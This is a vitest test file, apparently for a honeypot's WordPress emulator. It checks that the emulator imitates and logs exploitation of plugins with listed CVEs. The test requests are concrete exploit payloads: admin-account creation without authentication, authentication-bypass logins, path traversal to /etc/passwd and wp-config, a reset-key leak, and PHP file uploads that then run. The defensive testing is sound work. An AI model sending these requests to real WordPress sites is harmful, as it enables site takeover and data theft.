import { afterEach, describe, expect, it } from 'vitest'
import wordpress from '../../../src/emulators/wordpress/index.ts'
import { VULNERABLE_PLUGINS } from '../../../src/emulators/wordpress/plugin-list.ts'
import { type Playing, play } from '../../harness.ts'
import { type Asking, ask, type Reply } from '../../http/ask.ts'
import { MemoryHosts } from '../../http/memory-hosts.ts'

let playing: Playing | undefined
afterEach(async () => {
  await playing?.stop()
  playing = undefined
})

async function blog(vulnerable: readonly string[] = VULNERABLE_PLUGINS): Promise<Playing> {
  const hosts = new MemoryHosts([['/etc/passwd', 'root:x:0:0::/root:/bin/sh\n']])
  const options = { login: { accept: [{ user: 'admin', password: 'right' }], policy: 'list' }, vulnerable }
  playing = await play(wordpress, { persona: 'plain', prompts: 'test/fixtures/prompts', hosts, options })
  return playing
}

const AJAX = '/wp-admin/admin-ajax.php'
const form = (fields: Record<string, string>, cookie = ''): Asking => ({
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...(cookie ? { Cookie: cookie } : {}) },
  body: new URLSearchParams(fields).toString(),
})
const json = (value: unknown, headers: Record<string, string> = {}): Asking => ({
  headers: { 'Content-Type': 'application/json', ...headers },
  body: JSON.stringify(value),
})

function multipart(fields: Record<string, string>, name: string, filename: string, bytes: string): Asking {
  const texts = Object.entries(fields).map(([key, value]) => `--b\r\nContent-Disposition: form-data; name="${key}"\r\n\r\n${value}\r\n`)
  const file = `--b\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\nContent-Type: image/jpeg\r\n\r\n${bytes}\r\n--b--\r\n`
  return { headers: { 'Content-Type': 'multipart/form-data; boundary=b' }, body: texts.join('') + file }
}

const cves = (p: Playing): string[] =>
  p.events.filter(({ type }) => type === 'wordpress.exploit').flatMap(({ tags = [] }) => tags.filter((tag) => tag.startsWith('cve:')))

/** Who is signed in by what an answer has set. */
async function dashboardOf(p: Playing, reply: Reply): Promise<string> {
  const [, cookie = ''] = /Set-Cookie: (wordpress_logged_in_[^;]+)/.exec(reply.head) ?? []
  const page = await ask(p, 'GET', '/wp-admin/', { headers: { Cookie: cookie } })
  return page.body.includes('Dashboard</h1>') ? String(p.data<{ user: string }>('wordpress.admin').at(-1)?.user) : 'nobody'
}
const signIn = (p: Playing, log: string, pwd: string): Promise<Reply> => ask(p, 'POST', '/wp-login.php', form({ log, pwd }))

describe('an account that a hole gives', () => {
  const account = { user_name: 'Mallory', user_email: 'm@evil.example', password: 'Pw-123' }
  const action = { integration: 'WordPress', type_event: 'create_user_if_not_exists', selected_options: account }

  it.each([
    ['CVE-2025-3102', '/wp-json/sure-triggers/v1/automation/action', json(action, { 'St-Authorization': '' })],
    ['CVE-2025-3102', '/?rest_route=/sure-triggers/v1/automation/action', json(action)],
    [
      'CVE-2025-27007',
      '/wp-json/sure-triggers/v1/automation/action',
      {
        ...form({
          type_event: 'create_user_if_not_exists',
          'selected_options[user_name]': 'Mallory',
          'selected_options[password]': 'Pw-123',
          'selected_options[role]': 'administrator',
        }),
        headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'St-Authorization': 'Bearer abc' },
      },
    ],
    [
      'CVE-2025-8489',
      AJAX,
      form({ action: 'king_addons_user_register', username: 'Mallory', password: 'Pw-123', user_role: 'administrator' }),
    ],
    [
      'CVE-2025-6389',
      AJAX,
      form({
        action: 'sneeit_articles_pagination',
        callback: 'wp_insert_user',
        args: '{"user_login":"Mallory","user_pass":"Pw-123","role":"administrator"}',
      }),
    ],
  ])('signs in afterwards, its password is written down (%s at %s)', async (cve, path, asking) => {
    const p = await blog()
    const made = await ask(p, 'POST', path, asking)
    expect(made.status).toBe(200)
    if (path.includes('sure-triggers')) expect(made.body).toMatch(/"success":true[\s\S]*"user_registered":[\s\S]*"administrator":true/)
    expect(cves(p)).toEqual([`cve:${cve}`])
    expect(p.data('login')).toMatchObject([{ method: 'account', username: 'Mallory', password: 'Pw-123' }])
    expect((await signIn(p, 'mallory', 'wrong')).status).toBe(200)
    expect(await dashboardOf(p, await signIn(p, 'mallory', 'Pw-123'))).toBe('mallory')
    expect([p.data('lure.fault'), p.deadLetters]).toEqual([[], []])
  })

  it('is bounded: an older one gives way', async () => {
    const p = await blog()
    for (let n = 0; n < 20; n++) {
      await ask(p, 'POST', AJAX, form({ action: 'king_addons_user_register', username: `u${n}`, password: 'Pw-123' }))
    }
    expect(await dashboardOf(p, await signIn(p, 'u0', 'Pw-123'))).toBe('nobody')
    expect(await dashboardOf(p, await signIn(p, 'u19', 'Pw-123'))).toBe('u19')
  })

  it('says that OttoKit is connected (CVE-2025-27007)', async () => {
    const p = await blog()
    const body = { 'sure-triggers-access-key': 'k', 'wp-password': 'a', connection_status: 'ok', 'wp-username': 'admin' }
    const reply = await ask(p, 'POST', '/wp-json/sure-triggers/v1/connection/create-wp-connection', json(body))
    expect(reply.body).toContain('"success":true,"data":{"message":"Connected successfully."}')
    expect(cves(p)).toEqual(['cve:CVE-2025-27007'])
  })
})

describe('a session that a hole opens', () => {
  it.each([
    ['CVE-2026-23550', 'GET', '/api/modular-connector/login/abc/?origin=mo&type=foo', {}],
    ['CVE-2026-23550', 'GET', '/index.php/api/modular-connector/login/abc/?origin=mo&type=foo', {}],
    ['CVE-2025-5947', 'GET', `${AJAX}?action=service_finder_switch_back`, { headers: { Cookie: 'original_user_id=1' } }],
    ['CVE-2025-5947', 'GET', '/?switch_back=1', { headers: { Cookie: 'original_user_id=1' } }],
    ['CVE-2025-34077', 'POST', '/', form({ user_id_social_site: '1', social_site: 'true', log: 'null', pwd: 'null' })],
  ] as const)('is the administrator’s (%s by %s %s)', async (cve, method, path, asking) => {
    const p = await blog()
    const reply = await ask(p, method, path, asking)
    expect([reply.status, reply.header('location')]).toEqual([302, 'http://www.test.lan/wp-admin/'])
    expect(await dashboardOf(p, reply)).toBe('admin')
    expect(cves(p)).toEqual([`cve:${cve}`])
  })

  it('is nobody’s where there is no such user', async () => {
    const p = await blog()
    const reply = await ask(p, 'POST', '/', form({ user_id_social_site: '99', social_site: 'true' }))
    expect([reply.status, reply.head.includes('wordpress_logged_in')]).toEqual([302, false])
  })
})

describe('Post SMTP (CVE-2025-11833)', () => {
  it('shows the mail that resets a password; who follows it is the administrator with a password of their own', async () => {
    const p = await blog()
    const mail = await ask(
      p,
      'POST',
      '/wp-login.php?action=lostpassword&page=postman_email_log&view=log&log_id=7',
      form({ user_login: 'admin' }),
    )
    expect(mail.body).toMatch(/your password, visit the following address:[\s\S]*key=\w{20}/)
    expect(mail.body).toContain('Username: admin')
    const [, link = ''] = /http:\/\/www\.test\.lan(\/wp-login\.php\?action=rp&key=\w{20}&login=admin)/.exec(mail.body) ?? []
    const moved = await ask(p, 'GET', link)
    const [, cookie = ''] = /Set-Cookie: (wp-resetpass-[^;]+)/.exec(moved.head) ?? []
    expect((await ask(p, 'GET', '/wp-login.php?action=rp', { headers: { Cookie: cookie } })).body).toContain(
      'Enter your new password below',
    )
    const done = await ask(p, 'POST', '/wp-login.php?action=resetpass', form({ pass1: 'Mine-1' }, cookie))
    expect(done.body).toContain('Your password has been reset.')
    expect(await dashboardOf(p, await signIn(p, 'admin', 'Mine-1'))).toBe('admin')
    expect(p.data('honeytoken.returned')).toMatchObject([{ kind: 'wordpress-reset-key', name: 'admin', how: 'request' }])
    expect(cves(p)).toEqual(['cve:CVE-2025-11833'])
  })

  it('takes no other key', async () => {
    const p = await blog()
    const reply = await ask(p, 'GET', '/wp-login.php?action=rp&key=aaaaaaaaaaaaaaaaaaaa&login=admin')
    expect(reply.header('location')).toBe('http://www.test.lan/wp-login.php?action=lostpassword&error=invalidkey')
  })
})

describe('Sneeit Framework (CVE-2025-6389)', () => {
  it.each([
    ['var_dump', '["seen-7"]', /array\(1\) \{[\s\S]*string\(6\) "seen-7"/],
    ['phpinfo', '-1', /PHP Version/],
    ['print_r', '"x"', /^x$/],
    ['no;function', '1', /^$/],
  ])('calls %s', async (callback, args, expected) => {
    const p = await blog()
    const reply = await ask(p, 'POST', AJAX, form({ action: 'sneeit_articles_pagination', callback, args }))
    expect([reply.status, expected.test(reply.body)]).toEqual([200, true])
  })
})

describe('files', () => {
  it('are read through Kubio (CVE-2025-2294)', async () => {
    const p = await blog()
    const query = '__kubio-site-edit-iframe-preview=1&__kubio-site-edit-iframe-classic-template=../../../../../../../../etc/passwd'
    expect((await ask(p, 'GET', `/?${query}`)).body).toBe('root:x:0:0::/root:/bin/sh\n')
    expect((await ask(p, 'GET', '/')).body).toContain('/wp-content/plugins/kubio/')
    expect(cves(p)).toEqual(['cve:CVE-2025-2294'])
  })

  it('are included by HUSKY, which tells those that there are from others (CVE-2025-1661)', async () => {
    const p = await blog()
    const at = (template: string): Promise<Reply> =>
      ask(p, 'POST', `${AJAX}?template=${template}&value=a&min_symbols=1`, form({ action: 'woof_text_search' }))
    const there = (await at('../../../../../../../wp-config')).body
    expect(there).toMatch(/"options":\[\].*"template":"\.\.\\\/\.\.\\\/.*wp-config","value":"a","min_symbols":"1"/)
    expect((await at('../../../../../../../wp-configx')).body).toMatch(
      /woof_husky_txt-option-title.*woof_husky_txt-option-text.*Wrong path to template/,
    )
  })

  it('are put there by WPBookit, and run (CVE-2025-6058)', async () => {
    const p = await blog()
    const fields = { action: 'wpb_ajax_post', route_name: 'add_booking_type', title: 't' }
    const reply = await ask(p, 'POST', AJAX, multipart(fields, 'cover_image_img', 'x.php', '<?php echo md5("7"); ?>'))
    expect(reply.body).toMatch(/"status":"success"/)
    const month = new Date().toISOString().slice(0, 7).replace('-', '/')
    expect((await ask(p, 'GET', `/wp-content/uploads/${month}/x.php`)).body).toBe('8f14e45fceea167a5a36dedd4bea2543')
    expect(p.data('wordpress.upload')).toMatchObject([{ by: 'wpbookit' }])
  })

  it('are called what a field of Ninja Forms says, below the site at the most (CVE-2026-0740)', async () => {
    const p = await blog()
    expect((await ask(p, 'GET', '/')).body).toMatch(/nfpluginsettings\.js\?ver=3\.3\.26/)
    const nonce = await ask(p, 'POST', AJAX, form({ action: 'nf_fu_get_new_nonce', field_id: '5' }))
    expect(nonce.body).toMatch(/"success":true,"data":\{"nonce":"[0-9a-f]{10}"/)
    const up = (target: string): Promise<Reply> =>
      ask(p, 'POST', AJAX, multipart({ action: 'nf_fu_upload', image_jpg: target }, 'files-5', 'image.jpg', '<?php echo 6*7; ?>'))
    expect((await up('../../../../z.php')).body).toMatch(/"data":\{"files":\[\{.*"tmp_name":"\.\.\\\/.*"new_tmp_key":/)
    expect((await ask(p, 'GET', '/z.php')).body).toBe('42')
    await up('../../../../../../../../etc/cron.d/z')
    expect(p.data<{ path: string }>('wordpress.upload').map(({ path }) => path)).toEqual(['/z.php'])
  })
})

describe('a site without a plug-in', () => {
  it('has none of its holes', async () => {
    const p = await blog([])
    const asked: [string, string, Asking][] = [
      ['POST', '/wp-json/sure-triggers/v1/automation/action', json({ type_event: 'create_user_if_not_exists' })],
      ['GET', '/api/modular-connector/login/abc/?origin=mo&type=foo', {}],
      ['POST', AJAX, form({ action: 'sneeit_articles_pagination', callback: 'phpinfo', args: '1' })],
      ['POST', AJAX, form({ action: 'king_addons_user_register', username: 'u', password: 'p' })],
      ['POST', AJAX, form({ action: 'nf_fu_get_new_nonce' })],
    ]
    const statuses: number[] = []
    for (const [method, path, asking] of asked) statuses.push((await ask(p, method, path, asking)).status)
    expect(statuses).toEqual([404, 404, 400, 400, 400])
    expect(p.data('wordpress.exploit')).toEqual([])
  })
})
